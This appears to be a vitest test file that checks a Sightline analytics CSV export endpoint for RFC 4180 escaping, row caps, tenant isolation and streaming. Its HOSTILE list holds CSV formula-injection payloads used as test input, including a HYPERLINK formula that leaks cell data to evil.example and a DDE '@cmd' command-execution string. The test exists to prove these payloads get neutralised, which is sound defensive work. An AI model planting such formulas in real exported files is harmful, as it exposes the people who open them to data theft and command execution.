import { existsSync } from 'node:fs';
import { dirname } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { API_EVENT_FIELDS } from '../read/apiEvent';
import { exportPageRows } from '../read/csvExport';
import { createDuckDbStore } from '../store/duckdb/duckdbStore';
import { type HttpCollector, ingest, readApi, readJson, startHttpCollector } from './httpCollector';
import { wrapStore } from './wrapStore';

/**
 * `GET /v1/export.csv` over real HTTP against the real collector and DuckDB, read back with a
 * strict RFC 4180 parser: escaping, formula neutralisation, the row cap and its signal.
 */
const WRITE_KEY = 'wk_csv_acme_12345678';
const READ_KEY = 'rk_csv_acme_12345678';
const OTHER_READ_KEY = 'rk_csv_other_1234567';
const ROW_CAP = 25;

/**
 * A strict RFC 4180 parser: fields separated by commas, records by CRLF; a quoted field may hold
 * commas, CR, LF and doubled quotes; a quote anywhere else is an error.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let index = 0;
  while (index < text.length) {
    let field = '';
    if (text[index] === '"') {
      index++;
      for (;;) {
        if (index >= text.length) throw new Error('unterminated quoted field');
        const char = text[index]!;
        if (char === '"') {
          if (text[index + 1] === '"') {
            field += '"';
            index += 2;
            continue;
          }
          index++;
          break;
        }
        field += char;
        index++;
      }
    } else {
      while (index < text.length && text[index] !== ',' && text[index] !== '\r') {
        if (text[index] === '"' || text[index] === '\n') {
          throw new Error(`unquoted ${JSON.stringify(text[index])} at ${index}`);
        }
        field += text[index];
        index++;
      }
    }
    record.push(field);
    if (text[index] === ',') {
      index++;
    } else if (text.startsWith('\r\n', index)) {
      records.push(record);
      record = [];
      index += 2;
    } else if (index < text.length) {
      throw new Error(`unexpected ${JSON.stringify(text[index])} at ${index}`);
    }
  }
  if (record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '-1+2',
  '+SUM(A1:A9)',
  '@cmd|" /C calc"!A0',
  '\tTabbed',
  '\rcarriage',
  'He said "hi", then left',
  'line one\nline two',
  'crlf\r\ninside',
  '日本語 — émoji 🎉, ok',
  '=',
  '+',
  '-',
  '@',
  '-5',
  'plain',
];

let http: HttpCollector;

function csvRequest(query = '', key = READ_KEY): Promise<Response> {
  return readApi(http.url, `/v1/export.csv${query}`, key);
}

async function exported(
  query = '',
): Promise<{ response: Response; rows: Array<Record<string, string>> }> {
  const response = await csvRequest(query);
  const text = await response.text();
  expect(response.status, text).toBe(200);
  const [header, ...records] = parseCsv(text);
  expect(header).toEqual(API_EVENT_FIELDS);
  const rows = records.map((record) => {
    expect(record).toHaveLength(API_EVENT_FIELDS.length);
    return Object.fromEntries(API_EVENT_FIELDS.map((field, index) => [field, record[index]!]));
  });
  return { response, rows };
}

/** What a spreadsheet-safe export holds for a cell that was `value`. */
const neutralised = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

beforeAll(async () => {
  http = await startHttpCollector({
    writeKeys: [`${WRITE_KEY}=acme`],
    readKeys: [`${READ_KEY}=acme`, `${OTHER_READ_KEY}=other`],
    read: { exportRowCap: ROW_CAP },
    pii: false, // keep the hostile values exactly as sent
  });
  await ingest(
    http.url,
    WRITE_KEY,
    HOSTILE.map((value, index) => ({
      type: 'track',
      event: value,
      userId: value,
      messageId: `hostile-${index}`,
      timestamp: '2024-05-01T10:00:00Z',
      properties: { note: value, revenue: index === 0 ? -5 : index === 2 ? 100 : 12.5 },
    })),
  );
});

afterAll(async () => {
  await http.close();
});

describe('GET /v1/export.csv', () => {
  it('answers a CSV attachment with a header row', async () => {
    const response = await csvRequest();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="sightline-events-acme-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect((await response.text()).startsWith(`${API_EVENT_FIELDS.join(',')}\r\n`)).toBe(true);
  });

  it('round-trips hostile text through a strict RFC 4180 parser, formulas neutralised', async () => {
    const { rows } = await exported(`?userId=${encodeURIComponent(HOSTILE[0]!)}&limit=1`);
    expect(rows).toHaveLength(1);
    const all = (await exported()).rows;
    expect(all).toHaveLength(HOSTILE.length);
    for (const [index, value] of HOSTILE.entries()) {
      const row = all.find((candidate) => candidate.messageId === `hostile-${index}`);
      expect(row, value).toBeDefined();
      expect(row?.event).toBe(neutralised(value));
      expect(row?.userId).toBe(neutralised(value));
      // JSON text starts with "{": kept verbatim, and parses back to what was sent.
      expect(JSON.parse(row?.properties ?? '')).toEqual({
        note: value,
        revenue: index === 0 ? -5 : index === 2 ? 100 : 12.5,
      });
      for (const field of API_EVENT_FIELDS) {
        if (field === 'revenue') continue;
        expect(row?.[field], `${field} of ${JSON.stringify(value)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(row?.timestamp).toBe('2024-05-01T10:00:00.000Z');
      expect(row?.anonymousId).toBe('');
    }
    // A negative number from the numeric revenue column is data, not a formula.
    expect(all.find((row) => row.messageId === 'hostile-0')?.revenue).toBe('-5');
    expect(all.find((row) => row.messageId === 'hostile-1')?.revenue).toBe('12.5');
    // Whole amounts as JavaScript and the JSON API write them.
    expect(all.find((row) => row.messageId === 'hostile-2')?.revenue).toBe('100');
  });

  it('uses the filters of /v1/events and the tenant of the key', async () => {
    expect((await exported('?event=plain')).rows.map((row) => row.messageId)).toEqual([
      `hostile-${HOSTILE.indexOf('plain')}`,
    ]);
    const other = await readApi(http.url, '/v1/export.csv', OTHER_READ_KEY);
    expect(await other.text()).toBe(`${API_EVENT_FIELDS.join(',')}\r\n`);
    expect(other.headers.get('x-sightline-truncated')).toBe('false');
  });

  it('stops at read.exportRowCap and says so in x-sightline-truncated', async () => {
    await ingest(
      http.url,
      WRITE_KEY,
      Array.from({ length: 30 }, (_, index) => ({
        type: 'track',
        event: 'Bulk',
        anonymousId: 'bulk',
        messageId: `bulk-${index}`,
        timestamp: '2024-05-02T10:00:00Z',
      })),
    );
    const capped = await exported('?event=Bulk');
    expect(capped.rows).toHaveLength(ROW_CAP);
    expect(capped.response.headers.get('x-sightline-truncated')).toBe('true');
    expect(capped.response.headers.get('x-sightline-row-limit')).toBe(String(ROW_CAP));
    // Newest first, like /v1/events.
    expect(capped.rows[0]?.messageId).toBe('bulk-29');
    expect(capped.rows.at(-1)?.messageId).toBe('bulk-5');

    const limited = await exported('?event=Bulk&limit=10');
    expect(limited.rows.map((row) => row.messageId)).toEqual(
      Array.from({ length: 10 }, (_, index) => `bulk-${29 - index}`),
    );
    expect(limited.response.headers.get('x-sightline-truncated')).toBe('true');

    const exact = await exported('?event=Bulk&limit=25&from=2024-05-02');
    expect(exact.rows).toHaveLength(25);
    const whole = await exported('?userId=bulk&type=track&limit=25&to=2024-05-01');
    expect(whole.rows).toHaveLength(0);
    expect(whole.response.headers.get('x-sightline-truncated')).toBe('false');
  });

  it('answers 400 naming limit above the cap or an unknown parameter; 401 without a read key', async () => {
    const over = await readJson<{ error: { parameter: string; message: string } }>(
      http.url,
      `/v1/export.csv?limit=${ROW_CAP + 1}`,
      READ_KEY,
      { status: 400 },
    );
    expect(over.error.parameter).toBe('limit');
    expect(over.error.message).toContain('read.exportRowCap');
    for (const [query, parameter] of [
      ['from=2024-05-40', 'from'],
      ['cursor=abc', 'cursor'],
    ] as const) {
      const body = await readJson<{ error: { parameter: string } }>(
        http.url,
        `/v1/export.csv?${query}`,
        READ_KEY,
        { status: 400 },
      );
      expect(body.error.parameter).toBe(parameter);
    }
    expect((await readApi(http.url, '/v1/export.csv', undefined)).status).toBe(401);
    expect((await readApi(http.url, '/v1/export.csv', WRITE_KEY)).status).toBe(401);
    expect((await readApi(http.url, '/v1/export.csv', 'rk_wrong_12345678')).status).toBe(401);
  });
});

describe('GET /v1/export.csv over several store pages', () => {
  let big: HttpCollector;
  /** While set, the export's second page file waits for it before the store writes it. */
  let hold: Promise<void> | undefined;
  /** Page files the store was asked to write, in order. */
  let written: string[] = [];
  const PAGE_ROWS = exportPageRows('duckdb');
  /** Two whole pages and a part page. */
  const TOTAL = PAGE_ROWS * 2 + 100;

  beforeAll(async () => {
    const duckdb = await createDuckDbStore({ path: ':memory:' });
    const gated = wrapStore(duckdb, {});
    gated.writeCsv = async (statement, path) => {
      written.push(path);
      if (written.length === 2 && hold) await hold;
      return duckdb.writeCsv(statement, path);
    };
    big = await startHttpCollector({
      store: gated,
      writeKeys: [`${WRITE_KEY}=acme`],
      readKeys: [`${READ_KEY}=acme`],
    });
    const events = Array.from({ length: TOTAL }, (_, index) => ({
      type: 'track',
      event: 'Many',
      anonymousId: `a-${index % 17}`,
      messageId: `many-${index}`,
      timestamp: '2024-05-03T10:00:00Z',
      properties: { index },
    }));
    for (let from = 0; from < TOTAL; from += 2_500) {
      await ingest(big.url, WRITE_KEY, events.slice(from, from + 2_500));
    }
  }, 60_000);

  afterAll(async () => {
    await big.close();
  });

  it('sends each page as the store writes it, before the export is complete', async () => {
    written = [];
    let release!: () => void;
    hold = new Promise<void>((resolve) => {
      release = resolve;
    });
    try {
      const limit = PAGE_ROWS + 1_000;
      const response = await readApi(big.url, `/v1/export.csv?limit=${limit}`, READ_KEY);
      const reader = response.body!.getReader();
      const decoder = new TextDecoder();
      let received = '';
      // The header and the whole first page arrive while the second page is held in the store.
      while (received.split('\r\n').length - 1 < PAGE_ROWS + 1) {
        const { done, value } = await reader.read();
        expect(done).toBe(false);
        received += decoder.decode(value, { stream: true });
      }
      expect(received.split('\r\n').length - 1).toBe(PAGE_ROWS + 1);
      expect(written).toHaveLength(2);
      release();
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        received += decoder.decode(value, { stream: true });
      }
      expect(parseCsv(received)).toHaveLength(limit + 1);
    } finally {
      release();
      hold = undefined;
    }
    // Page files and their directory are gone once the export ends.
    expect(written.some((path) => existsSync(path))).toBe(false);
    expect(existsSync(dirname(written[0]!))).toBe(false);
  });

  it('stops writing pages and removes its files when the client goes away', async () => {
    written = [];
    let release!: () => void;
    hold = new Promise<void>((resolve) => {
      release = resolve;
    });
    const abort = new AbortController();
    const response = await fetch(`${big.url}/v1/export.csv`, {
      headers: { authorization: `Bearer ${READ_KEY}` },
      signal: abort.signal,
    });
    const reader = response.body!.getReader();
    await reader.read();
    abort.abort();
    await reader.read().catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 50));
    release();
    hold = undefined;
    await vi.waitFor(() => expect(existsSync(dirname(written[0]!))).toBe(false));
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(written).toHaveLength(2); // the held page finished; the third was never asked for
    const after = await readApi(big.url, '/v1/events?limit=1', READ_KEY);
    expect(after.status).toBe(200);
  });

  it('streams every row once, newest first, across pages of the store', async () => {
    written = [];
    const response = await readApi(big.url, '/v1/export.csv', READ_KEY);
    expect(response.headers.get('x-sightline-truncated')).toBe('false');
    const [, ...records] = parseCsv(await response.text());
    expect(written).toHaveLength(3);
    expect(records).toHaveLength(TOTAL);
    const order = records.map((record) => Number(JSON.parse(record[23]!).index));
    expect(order).toEqual(Array.from({ length: TOTAL }, (_, index) => TOTAL - 1 - index));
  });
});

describe('a one-page export whose rows are not in the window counted first', () => {
  it('drops the page written while counting, and exports the rows of the wider window', async () => {
    const duckdb = await createDuckDbStore({ path: ':memory:' });
    const written: string[] = [];
    const recording = wrapStore(duckdb, {});
    recording.writeCsv = async (statement, path) => {
      written.push(path);
      return duckdb.writeCsv(statement, path);
    };
    const collector = await startHttpCollector({
      store: recording,
      writeKeys: [`${WRITE_KEY}=acme`],
      readKeys: [`${READ_KEY}=acme`],
    });
    try {
      const track = (event: string, index: number) => ({
        type: 'track',
        event,
        anonymousId: 'a-1',
        messageId: `${event}-${index}`,
        timestamp: '2024-05-03T10:00:00Z',
      });
      // 1,000 old matching events, 10,000 others, then 2 new matching ones: the matching rows
      // are dense among old seqs and sparse among new ones, so the window sized for 5 rows (by
      // the matching rows' average density) holds only the 2 new ones and widens.
      const old = Array.from({ length: 1_000 }, (_, index) => track('Rare', index));
      await ingest(collector.url, WRITE_KEY, old);
      for (let from = 0; from < 10_000; from += 2_500) {
        const others = Array.from({ length: 2_500 }, (_, index) => track('Other', from + index));
        await ingest(collector.url, WRITE_KEY, others);
      }
      await ingest(collector.url, WRITE_KEY, [track('Rare', 1_000)]);
      await ingest(collector.url, WRITE_KEY, [track('Rare', 1_001)]);

      const response = await readApi(collector.url, '/v1/export.csv?event=Rare&limit=5', READ_KEY);
      expect(response.headers.get('x-sightline-truncated')).toBe('true');
      const ids = parseCsv(await response.text())
        .slice(1)
        .map((record) => record[0]);
      expect(ids).toEqual(['Rare-1001', 'Rare-1000', 'Rare-999', 'Rare-998', 'Rare-997']);
      // The page written while counting, then the page of the wider window: both removed.
      expect(written).toHaveLength(2);
      expect(written.some((path) => existsSync(dirname(path)))).toBe(false);
    } finally {
      await collector.close();
    }
  }, 60_000);
});

describe('a tenant whose rows are sparse among other tenants’ rows', () => {
  it('exports every one of its rows: the seq window widens across long stretches of other rows', async () => {
    const sparse = await startHttpCollector({
      writeKeys: ['wk_sparse_a_1234=a', 'wk_sparse_b_1234=b'],
      readKeys: ['rk_sparse_a_1234=a'],
    });
    try {
      const track = (tenant: string, index: number) => ({
        type: 'track',
        event: `e-${tenant}`,
        userId: `u-${tenant}`,
        messageId: `${tenant}-${index}`,
        timestamp: '2024-05-01T10:00:00.000Z',
      });
      const mine = (from: number) =>
        Array.from({ length: 3 }, (_, index) => track('a', from + index));
      await ingest(sparse.url, 'wk_sparse_a_1234', mine(0));
      for (let batch = 0; batch < 6; batch++) {
        const others = Array.from({ length: 2_000 }, (_, index) =>
          track('b', batch * 2_000 + index),
        );
        await ingest(sparse.url, 'wk_sparse_b_1234', others);
      }
      await ingest(sparse.url, 'wk_sparse_a_1234', mine(3));
      await ingest(sparse.url, 'wk_sparse_b_1234', [track('b', 99_999)]);

      const response = await readApi(sparse.url, '/v1/export.csv', 'rk_sparse_a_1234');
      const records = parseCsv(await response.text());
      const ids = records.slice(1).map((record) => record[0]);
      expect(ids).toEqual(['a-5', 'a-4', 'a-3', 'a-2', 'a-1', 'a-0']);
    } finally {
      await sparse.close();
    }
  }, 60_000);
});
